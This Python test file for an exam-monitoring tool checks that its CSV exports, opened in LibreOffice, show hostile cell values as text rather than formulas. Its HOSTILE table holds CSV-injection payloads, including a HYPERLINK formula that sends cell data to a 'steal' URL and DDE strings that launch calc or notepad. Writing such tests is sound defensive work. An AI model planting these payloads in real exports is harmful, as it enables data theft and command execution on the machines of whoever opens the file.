"""CSV exports open in a real LibreOffice as text, never as formulas (issue 15, row 5).

A hostile machine names itself ``=HYPERLINK(...)``, reports an OS and remediation texts that
start with ``+ - @``, and sends focus events whose titles are formulas; a supervisor writes a
formula in the PV too. The room's ``export.csv``, the PV CSV (server side, as completed) and
``examroom report merge --csv`` are converted by ``soffice --headless`` to flat ODS: no cell
may hold a formula, and the hostile texts must still be there, readable. A control CSV with
the same cells left raw does produce formulas, so the check can fail.
"""
from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from core.csvsafe import cell
from tests.server_support import LiveServer, event, report

HOSTILE = {
    "hostname": '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Cliquez ici")',
    "os": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "remediation": "-2+3+cmd|' /C notepad'!A0",
    "title": "=1+1",
    "pv": "\t=2*21",
}


def _soffice() -> str:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        pytest.skip("needs LibreOffice (apt install libreoffice-calc)")
    return path


def _open_in_libreoffice(csv_file: Path, separator: str, tmp: Path) -> str:
    """The CSV as LibreOffice Calc reads it (default import options, formulas evaluated), as flat ODS XML."""
    out = tmp / "converted"
    # CSV import options: field separator (ASCII code), text delimiter ", charset UTF-8, from line 1.
    infilter = f"CSV:{ord(separator)},34,76,1"
    done = subprocess.run([_soffice(), f"-env:UserInstallation=file://{tmp / 'lo-profile'}", "--headless",
                           f"--infilter={infilter}", "--convert-to", "fods", "--outdir", str(out), str(csv_file)],
                          capture_output=True, text=True, timeout=120)
    converted = out / (csv_file.stem + ".fods")
    assert done.returncode == 0 and converted.is_file(), done.stderr + done.stdout
    return converted.read_text(encoding="utf-8")


def _formulas(fods: str) -> list[str]:
    return re.findall(r'table:formula="([^"]*)"', fods)


@pytest.fixture(scope="module")
def hostile_room(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("csv")
    server = LiveServer(tmp).start()
    try:
        sup = server.login()
        code = server.create_room(sup)
        token = server.enroll(code, "m1", HOSTILE["hostname"])
        bad = report("m1", ready=False, hostname=HOSTILE["hostname"])
        bad["machine"]["os"] = HOSTILE["os"]
        bad["checks"][0]["summary"] = HOSTILE["summary"]
        bad["checks"][0]["remediation"] = HOSTILE["remediation"]
        assert server.post("/reports", token, bad).status_code == 200
        focus = event("focus_lost", "2026-11-22T09:00:00Z", title=HOSTILE["title"], process="=calc.exe")
        assert server.post("/events", token, {"events": [focus]}).status_code == 200
        line_key = "2026-11-22T09:00:00.000Z|m1|focus_lost"
        edits = {"edits": {line_key: {"details_text": HOSTILE["pv"]}},
                 "extra": [{"key": "manual-1", "time": "09:05", "hostname": "-PC", "code": "C4",
                            "label": "@label", "details_text": "+1+1"}], "comment": "=HYPERLINK(\"x\")"}
        saved = server.put_json(f"/rooms/{code}/incidents/edits", sup, edits)
        assert saved.status_code == 200, saved.text
        yield server, sup, code, bad, tmp
    finally:
        server.stop()


def test_libreoffice_would_run_the_raw_cells_as_formulas(hostile_room, tmp_path):
    """The control: the same hostile cells, unescaped, are formulas for LibreOffice."""
    raw = tmp_path / "raw.csv"
    raw.write_text(f'"{HOSTILE["hostname"].replace(chr(34), chr(34) * 2)}";{HOSTILE["title"]}\r\n', encoding="utf-8")
    assert len(_formulas(_open_in_libreoffice(raw, ";", tmp_path))) == 2
    assert cell(HOSTILE["title"]) == "'=1+1" and cell("PC-07") == "PC-07" and cell(None) == ""


@pytest.mark.parametrize("lang,separator", [("fr", ";"), ("en", ",")])
def test_the_rooms_export_and_the_pv_open_as_text(hostile_room, tmp_path, lang, separator):
    server, sup, code, _bad, _tmp = hostile_room
    exports = {"export": server.get(f"/rooms/{code}/export.csv", sup, lang=lang),
               "pv": server.get(f"/rooms/{code}/incidents", sup, lang=lang, format="csv", edited="true")}
    for name, reply in exports.items():
        assert reply.status_code == 200, reply.text
        path = tmp_path / f"{name}-{lang}.csv"
        path.write_bytes(reply.content)
        fods = _open_in_libreoffice(path, separator, tmp_path)
        assert _formulas(fods) == [], (name, _formulas(fods))
        text = fods.replace("&quot;", '"').replace("&apos;", "'").replace("&amp;", "&")
        if name == "export":
            for key in ("hostname", "os", "remediation"):
                assert HOSTILE[key] in text, (key, name)
        else:
            for shown in (HOSTILE["pv"].strip(), "+1+1", "@label", "-PC", '=HYPERLINK("x")'):
                assert shown in text, (shown, name)


def test_report_merge_csv_opens_as_text(hostile_room, tmp_path):
    _server, _sup, _code, bad, _tmp = hostile_room
    source = tmp_path / "m1.json"
    source.write_text(json.dumps(bad), encoding="utf-8")
    out = tmp_path / "room.csv"
    done = subprocess.run([sys.executable, "-m", "agent", "report", "merge", str(source), "--csv", str(out),
                           "--lang", "fr"], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and out.is_file(), done.stderr  # 1: a machine is not ready
    fods = _open_in_libreoffice(out, ";", tmp_path)
    assert _formulas(fods) == []
    text = fods.replace("&quot;", '"').replace("&apos;", "'").replace("&amp;", "&")
    assert HOSTILE["hostname"] in text and HOSTILE["os"] in text
